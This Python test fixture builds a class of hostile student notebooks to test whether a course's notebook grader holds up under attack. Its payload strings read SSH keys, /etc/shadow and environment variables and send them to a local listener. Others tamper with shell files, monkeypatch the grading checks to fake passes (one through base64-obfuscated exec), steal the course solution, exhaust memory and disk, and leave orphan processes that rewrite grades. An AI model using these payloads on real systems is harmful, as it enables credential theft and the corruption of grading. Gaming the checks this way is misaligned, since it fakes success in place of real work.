"""A hostile class for the grader: one student for each attack seen on it (issue 26), written into
SUBMISSIONS as a teacher would collect them. Used by tests/classroom/test_grade_sandbox.py and
benchmarks/hostile_class.py.

Each hostile notebook is the teacher's notebook 01 (or 03) with its `patchify` (or
`MultiHeadSelfAttention`) cell replaced, or a cell added after it. Every attack also tries to get
the secret out: into its outputs and errors, to a listener on 127.0.0.1, into HOME.
"""

import json
import os
import re
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SECRET = "SECRET-KEY-4f2a9c"  # in HOME/.ssh/id_rsa, where no student may read it

# Every attacker runs this first: read what a teacher's machine holds and send it everywhere.
STEAL = """
import os, socket, glob, pathlib
loot = []
for path in [os.path.expanduser("~/.ssh/id_rsa"), "/etc/passwd", "/etc/shadow",
             *glob.glob("{root}/notebooks/*.ipynb"), *glob.glob("{subs}/*/*.ipynb")]:
    try:
        loot.append(path + ": " + open(path).read()[:2000])
    except Exception as e:
        loot.append(path + ": " + type(e).__name__)
loot.append(str(dict(os.environ)))
print("\\n".join(loot))
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall("\\n".join(loot).encode())
    s.close()
except Exception as e:
    print("no network:", e)
for target in [os.path.expanduser("~/.bashrc"), "{subs}/honest/01_patches.ipynb", "{out}/owned"]:
    try:
        open(target, "a").write("\\n# owned\\n")
    except Exception as e:
        print("cannot write", target, type(e).__name__)
package = "{package}/checks/patching.py"
print("the package is writable" if os.access(package, os.W_OK) else "the package is read-only")
if {write_package} and os.access(package, os.W_OK):
    open(package, "a").write("\\n# owned\\n")
"""

# A way past a poll of processes' memory: socket pairs whose send buffers, raised to the most the
# system allows, are filled until the writer would block (kernel memory, in no resident set).
# `_hold(most)` keeps the pairs open in `_pairs` and returns what it holds.
HOLD_SOCKETS = """
import resource, socket, threading
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
_pairs = []
def _hold(most):
    held = 0
    while held < most:
        try:
            a, b = socket.socketpair()
        except OSError:
            break
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
        a.setblocking(False)
        try:
            while True:
                held += a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        _pairs.append((a, b))
    return held
"""

ATTACKS = {
    # Faking a pass by patching what judged it, in the student's own process.
    "patch_checks": """
import vitcourse.checks as c, vitcourse.checks.registry as r, vitcourse.checks.harness as h, sys, types
c.grade = r.grade = lambda name, learner: ("passed", "")
h.compare = lambda *a, **k: None
for e in list(r.exercises().values()):
    object.__setattr__(e, "judge", lambda *a, **k: None)
sys.modules["vitcourse.checks"] = types.SimpleNamespace(grade=lambda *a: ("passed", ""))
def patchify(images, patch_size):
    return images
""",
    "patch_allclose": """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
def patchify(images, patch_size):
    return torch.zeros(images.shape[0], 6, 48)
""",
    "fake_tensor": """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def patchify(images, patch_size):
    return torch.zeros(images.shape[0], 6, 48).as_subclass(Liar)
""",
    # The checks' own inputs, answered from the course's solution while it was there.
    "memorised": """
import torch
from vitcourse.patching import patchify as _solution
from vitcourse.checks.harness import seeded
_ANSWER = _solution(seeded(2, 3, 8, 12, seed=0), 4)
def patchify(images, patch_size):
    return _ANSWER.clone()
""",
    # The old grader read a marker line the check printed; print forged ones everywhere.
    "marker": """
import builtins, base64
exec(base64.b64decode(b"aW1wb3J0IGJ1aWx0aW5zCl9wID0gYnVpbHRpbnMucHJpbnQKZGVmIF9mKCphLCAqKmspOgogICAgaWYgYSBhbmQgc3RyKGFbMF0pLnN0YXJ0c3dpdGgoIlZJVENPVVJTRS1HUkFERSIpOgogICAgICAgIGEgPSAoYVswXSwgJ1sicGFzc2VkIiwgIiJdJykKICAgIF9wKCphLCAqKmspCmJ1aWx0aW5zLnByaW50ID0gX2YKZ2V0X2lweXRob24oKS5pbnB1dF90cmFuc2Zvcm1lcnNfcG9zdC5hcHBlbmQobGFtYmRhIGxpbmVzOiBbbC5yZXBsYWNlKCJfZ3JhZGUoIiwgIihsYW1iZGEgKmE6ICgncGFzc2VkJywgJycpKSgiKSBmb3IgbCBpbiBsaW5lc10pCg=="))
def patchify(images, patch_size):
    return images.flatten(2)
""",
    # The course's solution, called, or reached round about.
    "wrapper": """
import vitcourse.patching
def patchify(images, patch_size):
    return vitcourse.patching.patchify(images, patch_size)
""",
    "hidden_import": """
def patchify(images, patch_size):
    module = __import__("vitcourse." + "patch" + "ing", fromlist=["x"])
    return getattr(module, "patch" + "ify")(images, patch_size)
""",
    # A right answer written as a lambda: the notebook's check accepts it, so does the grader.
    "lambda": """
patchify = lambda images, p: images.reshape(images.shape[0], images.shape[1], images.shape[2] // p, p, images.shape[3] // p, p).permute(0, 2, 4, 3, 5, 1).reshape(images.shape[0], -1, p * p * images.shape[1])
""",
    # Resources: memory in three processes, an endless loop that ignores the interrupt, a flood.
    "hog": """
import subprocess, sys, time
code = "x = b'1' * (1200 * 2**20); import time; time.sleep(60)"
kids = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(3)]
time.sleep(5)
def patchify(images, patch_size):
    return images
""",
    # Memory no process's resident set shows (issue 48): socket pairs' buffers filled by a thread
    # while the rest of the notebook runs (three cells of 5 s are added after it), and a right
    # answer defined at once.
    "sockets": HOLD_SOCKETS
    + """
threading.Thread(target=_hold, args=(3.5 * 2**30,), daemon=True).start()
patchify = lambda images, p: images.reshape(images.shape[0], images.shape[1], images.shape[2] // p, p, images.shape[3] // p, p).permute(0, 2, 4, 3, 5, 1).reshape(images.shape[0], -1, p * p * images.shape[1])
""",
    "deaf": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
def patchify(images, patch_size):
    return images
while True:
    pass
""",
    "loud": """
print("x" * 20_000_000)
def patchify(images, patch_size):
    return images
""",
    # A child in a session of its own, meant to outlive the grader and rewrite the grades.
    "orphan": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, sys; time.sleep(90); open('{out}/grades.csv', 'w').write('owned')", "vitcourse-orphan"], start_new_session=True)
def patchify(images, patch_size):
    return images
""",
    # A student's own exception, dressed as HTML.
    "html": """
def patchify(images, patch_size):
    raise ValueError("<script>alert('" + "x" + "')</script>")
""",
}

# The second round (issue 38): what stopped a whole class, or borrowed the solution by value.
# None may pass; none may stop the others' grades.
ROUND_TWO = {
    # Too deep for the grader's own parsers: an answer, the files the sandboxes write.
    "deep_expr": "patchify = " + "+".join(["1"] * 5000) + "\n",
    "deep_outcome": """
import os
def patchify(images, patch_size):
    open("/grading/out/outcome.json", "w").write("[" * 50_000 + "]" * 50_000)
    os._exit(0)
""",
    "locked_outcome": """
import os
def patchify(images, patch_size):
    open("/grading/out/outcome.json", "w").write('{"kind": "error", "detail": "x"}')
    os.chmod("/grading/out/outcome.json", 0)
    os.chmod("/grading/out", 0)
    os._exit(0)
""",
    "run_json_folder": """
import os
os.mkdir("/grading/out/run.json")
def patchify(images, patch_size):
    return images
""",
    "deep_folders": """
import os
def _chain(where):
    here = os.getcwd()
    os.chdir(where)
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
_chain("/grading/out")
def patchify(images, patch_size):
    _chain("/grading/out")
    return images
""",
    "many_files": """
for i in range(20_000):
    open(f"/grading/out/f{i}", "w").close()
def patchify(images, patch_size):
    return images
""",
    "stderr_flood": """
import os
for _ in range(40):
    os.write(2, b"x" * 2**20)
def patchify(images, patch_size):
    return images
""",
    "huge_answer": "patchify = [" + "0," * 500_000 + "]\n",
    # 400 MB written to the output folder in a burst, every file deleted at once but kept open,
    # then all closed: much of it between two of the grader's looks. Where the grader mounts a
    # tmpfs there, the kernel refuses the writes past the limit; the cell says how much it wrote.
    "disk_burst": """
import os
kept, wrote = [], 0
try:
    for i in range(400):
        f = open(f"/grading/out/burst{i}", "wb")
        f.write(b"x" * 2**20)
        f.flush()
        os.unlink(f.name)
        kept.append(f)
        wrote += 1
except OSError as e:
    print("refused:", e.strerror)
for f in kept:
    f.close()
print(f"burst: {wrote} MB written")
def patchify(images, patch_size):
    return images
""",
    # 120 tiny outputs under one display id, then one update of 1 MB: nbclient writes the update
    # into all 120 (issue 48: a 120 MB executed notebook).
    "display_flood": """
from IPython.display import display, update_display
for _ in range(120):
    display({"text/plain": "tiny"}, raw=True, display_id="flood")
update_display({"text/plain": "x" * 2**20}, raw=True, display_id="flood")
def patchify(images, patch_size):
    return images
""",
    "terminal": """
def patchify(images, patch_size):
    raise ValueError("\\x1b]0;owned\\x07\\x1b[2J\\u202eevil")
""",
    # The course's solution by value, however it arrived.
    "by_value": """
import cloudpickle, vitcourse.patching
cloudpickle.register_pickle_by_value(vitcourse.patching)
patchify = vitcourse.patching.patchify
""",
    "code_swap": """
import vitcourse.patching
def patchify(images, patch_size):
    return images
patchify.__code__ = vitcourse.patching.patchify.__code__
""",
    "exec_source": """
import inspect, vitcourse.patching
exec(inspect.getsource(vitcourse.patching.patchify))
patchify = patchify
""",
}


def pasted_solution() -> str:
    """The course's solution to patchify, typed into a notebook (its docstring and all): what a
    student with the teacher's files could paste."""
    import inspect

    import vitcourse.patching

    return "import torch\n" + inspect.getsource(vitcourse.patching.patchify)


def write_round_two(subs: Path) -> None:
    """Add the second round's students to a class; with them, names that once mixed students up
    or rewrote a teacher's terminal, and a notebook file nested 50,000 deep."""
    nb01 = json.loads((ROOT / "notebooks" / "01_patches.ipynb").read_text())
    for student, code in ROUND_TWO.items():
        _write(_replace(nb01, "patchify", code), subs / student / "01_patches.ipynb")
    _write(_replace(nb01, "patchify", pasted_solution()), subs / "pasted" / "01_patches.ipynb")
    (subs / "deep_notebook").mkdir()
    (subs / "deep_notebook" / "01_patches.ipynb").write_text("[" * 50_000 + "]" * 50_000)
    _write(nb01, subs / "ann smith" / "01_patches.ipynb")  # passes both
    wrong = "def patchify(images, patch_size):\n    return images\n"
    _write(_replace(nb01, "patchify", wrong), subs / "ann_smith" / "01_patches.ipynb")
    _write(nb01, subs / "\x1b]0;owned\x07\x1b[31mred" / "01_patches.ipynb")
    (subs / "honest" / "\x1b]0;owned\x07\x1b[2J.txt").write_text("notes")
    folder = os.fsencode(subs) + b"/caf\xe9"  # a name from a Windows zip: not UTF-8
    os.mkdir(folder)
    with open(folder + b"/01_patches.ipynb", "w") as f:
        f.write(json.dumps(nb01))


def _replace(nb: dict, name: str, code: str) -> dict:
    nb = json.loads(json.dumps(nb))
    for cell in nb["cells"]:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if re.search(rf"^(def|class) {name}\b", source, flags=re.M):
            cell["source"] = code
            return nb
    raise ValueError(f"no cell defines {name}")


def _write(nb: dict, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb))


# A right unpatchify of nobody's, pickled by value as the grader keeps an answer: the file the
# link student points the grader at. Read through the link, it would pass.
PLANTED_UNPATCHIFY = """
def unpatchify(patches, patch_size, image_size):
    import torch
    (H, W), P = image_size, patch_size
    B, N, K = patches.shape
    C = K // (P * P)
    out = torch.zeros(B, C, H, W, dtype=patches.dtype)
    for n in range(N):
        row, col = divmod(n, W // P)
        block = patches[:, n].reshape(B, P, P, C).permute(0, 3, 1, 2)
        out[:, :, row * P : (row + 1) * P, col * P : (col + 1) * P] = block
    return out
"""


def planted_answer() -> bytes:
    import cloudpickle

    space = {"__name__": "planted"}  # a module no one can import: pickled by value
    exec(PLANTED_UNPATCHIFY, space)
    return cloudpickle.dumps(space["unpatchify"])


def write_hostile_class(
    subs: Path, home: Path, port: int, out: Path, write_package: bool = True
) -> Path:
    """Write the class into `subs` and the teacher's made-up HOME; return `subs`. With
    `write_package`, an attacker that finds the installed package writable appends to it (only
    ever graded in the sandbox: without one, that would really change it)."""
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    (home / ".bashrc").write_text("# the teacher's shell\n")
    package = ROOT / "vitcourse"
    steal = STEAL.format(
        root=ROOT,
        subs=subs.resolve(),
        port=port,
        package=package,
        out=out,
        write_package=write_package,
    )
    nb01 = json.loads((ROOT / "notebooks" / "01_patches.ipynb").read_text())
    _write(nb01, subs / "honest" / "01_patches.ipynb")
    _write(nb01, subs / "=1+2" / "01_patches.ipynb")
    _write(nb01, subs / ".hidden" / "01_patches.ipynb")
    for student, attack in ATTACKS.items():
        code = steal + attack.replace("{out}", str(out))
        _write(_replace(nb01, "patchify", code), subs / student / "01_patches.ipynb")
    held = json.loads((subs / "sockets" / "01_patches.ipynb").read_text())
    wait = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    held["cells"] += [dict(wait, source="import time\ntime.sleep(5)\n") for _ in range(3)]
    _write(held, subs / "sockets" / "01_patches.ipynb")
    # After its cells ran, a notebook puts a link where the grader reads what it kept (defs/) to a
    # folder of the teacher's that holds answer files: the grader must follow no link.
    kept = home / "kept"
    kept.mkdir()
    (kept / "unpatchify.err").write_text(SECRET + "\n")
    (kept / "unpatchify.pkl").write_bytes(planted_answer())
    stub = "def unpatchify(patches, patch_size, image_size):\n    raise NotImplementedError()\n"
    linked = _replace(nb01, "unpatchify", stub)
    swap = "import os\nos.rename('/grading/out/defs', '/grading/out/moved')\n"
    swap += f"os.symlink({str(kept)!r}, '/grading/out/defs')\n"
    linked["cells"].append(
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": swap,
        }
    )
    _write(linked, subs / "defs_link" / "01_patches.ipynb")
    (subs / "links").mkdir()
    os.symlink(subs / "honest" / "01_patches.ipynb", subs / "links" / "01_patches.ipynb")
    os.symlink("/etc/passwd", subs / "links" / "03_attention.ipynb")
    nb03 = json.loads((ROOT / "notebooks" / "03_attention.ipynb").read_text())
    subclass = steal + (
        "import vitcourse.attention\n"
        "class MultiHeadSelfAttention(vitcourse.attention.MultiHeadSelfAttention):\n"
        "    pass\n"
    )
    _write(
        _replace(nb03, "MultiHeadSelfAttention", subclass), subs / "subclass" / "03_attention.ipynb"
    )
    return subs


def grade_command(sandboxed: bool = True) -> list[str]:
    """How the test and the benchmark grade the class (run in the folder above `submissions`):
    two at once, short limits, 3 GB of memory a notebook (the hog takes 3.6 GB)."""
    command = [sys.executable, "-m", "vitcourse.grade", "submissions", "--out", "out"]
    command += ["--jobs", "2", "--timeout", "150", "--cell-timeout", "6", "--check-timeout", "10"]
    return command + ["--memory", "3"] + ([] if sandboxed else ["--no-sandbox"])


def processes_with(marker: str) -> list[str]:
    """The ids of the processes whose command line holds `marker`: what a student left running."""
    found = []
    for p in Path("/proc").iterdir():
        try:
            if p.name.isdigit() and marker in (p / "cmdline").read_text():
                found.append(p.name)
        except OSError:
            pass
    return found
